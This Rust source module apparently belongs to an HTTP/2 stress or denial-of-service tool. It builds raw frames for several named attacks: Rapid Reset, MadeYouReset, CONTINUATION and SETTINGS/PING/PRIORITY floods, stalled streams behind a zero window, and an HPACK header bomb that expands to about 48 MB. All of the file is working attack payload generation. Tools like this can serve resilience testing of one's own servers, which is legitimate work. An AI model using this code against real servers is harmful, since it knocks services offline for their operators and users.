//! What each trick sends, piece by piece.

use super::{
    Trick,
    frame::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, FIRST_REMEMBERED, HEADERS, Method, PING,
        PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, put, remembered, request,
    },
};

/// Frames or streams in a piece: one write carries many.
const BATCH: usize = 100;

/// Streams of a connection that are left open: the least that servers allow (RFC 9113, 6.5.2).
const STREAMS: usize = 100;

/// What is asked for where it is not to fit into any window.
const LARGE: &str = "/bytes/1048576";

/// The payload of a frame that no server has to take larger (RFC 9113, 6.5.2).
const FULL: usize = 16_384;

/// An entry that fits into a table of 4,096 bytes (RFC 7541, 4.2).
const ENTRY: usize = 4_000;

/// As much as a frame can say.
const TOO_WIDE: u32 = 0x7fff_ffff;

/// See the module.
pub(super) struct Flood {
    trick: Trick,
    stream: u32,
    begun: bool,
    piece: Vec<u8>,
}

impl Flood {
    pub(super) fn new(trick: Trick) -> Self {
        Self {
            trick,
            stream: 1,
            begun: false,
            piece: Vec::new(),
        }
    }

    /// What to send next, and how many frames of the attack, or requests, are in it; `None`: that was all.
    pub(super) fn next(&mut self) -> Option<(&[u8], usize)> {
        self.piece.clear();
        let count = match self.begun {
            false => self.open(),
            true => self.go_on()?,
        };
        self.begun = true;
        Some((&self.piece, count))
    }

    /// Preface and SETTINGS, and what has to be there for the rest.
    fn open(&mut self) -> usize {
        let piece = &mut self.piece;
        piece.extend_from_slice(PREFACE);
        match self.trick {
            // SETTINGS_INITIAL_WINDOW_SIZE is 0.
            Trick::ShutWindow => put(piece, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            _ => put(piece, SETTINGS, 0, 0, &[]),
        }
        match self.trick {
            Trick::Continuation => {
                let block = request(Method::Get, "/");
                put(piece, HEADERS, END_STREAM, self.stream, &block);
            }
            Trick::EmptyData => {
                let block = request(Method::Post, "/discard");
                put(piece, HEADERS, END_HEADERS, self.stream, &block);
            }
            Trick::Unfinished => {
                let block = request(Method::Post, "/discard");
                self.streams(STREAMS, |piece, stream| {
                    put(piece, HEADERS, END_HEADERS, stream, &block);
                });
                return STREAMS;
            }
            Trick::ShutWindow => {
                let block = request(Method::Get, LARGE);
                self.streams(STREAMS, |piece, stream| {
                    put(piece, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                });
                return STREAMS;
            }
            _ => {}
        }
        0
    }

    fn go_on(&mut self) -> Option<usize> {
        match self.trick {
            Trick::RapidReset => {
                let block = request(Method::Get, "/");
                self.streams(BATCH, |piece, stream| {
                    put(piece, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    put(piece, RST_STREAM, 0, stream, &8u32.to_be_bytes());
                });
            }
            Trick::MadeYouReset => {
                let block = request(Method::Get, "/");
                self.streams(BATCH, |piece, stream| {
                    put(piece, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    // A window that grows beyond all bounds is an error of the stream (RFC 9113, 6.9.1).
                    put(piece, WINDOW_UPDATE, 0, stream, &TOO_WIDE.to_be_bytes());
                });
            }
            Trick::Continuation => {
                // Small literals without indexing, so that something has to be kept of each.
                let block = b"\x00\x01x\x01y".repeat(100);
                self.frames(CONTINUATION, 1, &block);
            }
            Trick::Settings | Trick::SettingsUnread => self.frames(SETTINGS, 0, &[]),
            Trick::Ping | Trick::PingUnread => self.frames(PING, 0, &[0; 8]),
            Trick::EmptyData => self.frames(DATA, 1, &[]),
            Trick::WindowUpdate => self.frames(WINDOW_UPDATE, 0, &1u32.to_be_bytes()),
            // On a stream that there is not, upon another, with some weight.
            Trick::Priority => self.frames(PRIORITY, 3, &[0, 0, 0, 1, 16]),
            Trick::HeaderBomb => {
                self.bomb();
                return Some(1);
            }
            Trick::Unfinished | Trick::ShutWindow => return None,
        }
        Some(BATCH)
    }

    fn frames(&mut self, kind: u8, stream: u32, payload: &[u8]) {
        for _ in 0..BATCH {
            put(&mut self.piece, kind, 0, stream, payload);
        }
    }

    fn streams(&mut self, count: usize, mut say: impl FnMut(&mut Vec<u8>, u32)) {
        for _ in 0..count {
            say(&mut self.piece, self.stream);
            self.stream += 2;
        }
    }

    /// A request that is 48 MB large once it is unpacked, or 65 when the entry is there already.
    fn bomb(&mut self) {
        let mut block = request(Method::Get, "/");
        if self.stream == 1 {
            remembered(&mut block, "x", &"y".repeat(ENTRY));
        }
        block.resize(FULL, FIRST_REMEMBERED);
        self.streams(1, |piece, stream| {
            put(piece, HEADERS, END_HEADERS | END_STREAM, stream, &block);
        });
    }
}
